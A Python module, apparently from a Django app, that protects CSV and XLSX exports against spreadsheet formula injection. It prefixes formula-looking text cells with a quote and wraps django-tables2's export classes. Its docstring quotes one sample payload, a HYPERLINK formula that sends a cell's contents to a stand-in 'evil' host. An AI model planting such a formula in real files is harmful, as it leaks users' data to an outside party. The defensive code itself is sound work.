"""CSV and XLSX exports that a spreadsheet cannot be tricked into running (CSV injection).

Names come from outside — a model name pushed by a gateway, a vendor or department name typed
in — and end up in exports. A text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
return is a formula to Excel and LibreOffice (`=HYPERLINK("http://evil/?"&A1, "click")`), so it
is written with a leading single quote, which spreadsheets show as text (OWASP's advice).
Numbers are left alone, as numbers or as numeric text ("-12.50"): a negative amount is data.
"""

from __future__ import annotations

import re

import tablib
from django_tables2.export import ExportMixin as _ExportMixin
from django_tables2.export import TableExport

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d[\d,]*(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(value):
    """The value as a spreadsheet should show it: formula-looking text gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES) and not NUMBER.fullmatch(value.strip()):
        return "'" + value
    return value


def neutralise_dataset(dataset: tablib.Dataset) -> tablib.Dataset:
    """A copy of the dataset with every text cell (headers too) neutralised."""
    safe = tablib.Dataset(title=dataset.title)
    if dataset.headers:
        safe.headers = [neutralise(h) for h in dataset.headers]
    for row in dataset:
        safe.append([neutralise(cell) for cell in row])
    return safe


def neutralise_databook(book: tablib.Databook) -> tablib.Databook:
    return tablib.Databook([neutralise_dataset(sheet) for sheet in book.sheets()])


class SafeTableExport(TableExport):
    """django-tables2's export of a list page, neutralised."""

    def table_to_dataset(self, table, exclude_columns, dataset_kwargs=None):
        return neutralise_dataset(super().table_to_dataset(table, exclude_columns, dataset_kwargs))


class ExportMixin(_ExportMixin):
    """django-tables2's ExportMixin whose CSV/XLSX downloads are neutralised."""

    export_class = SafeTableExport
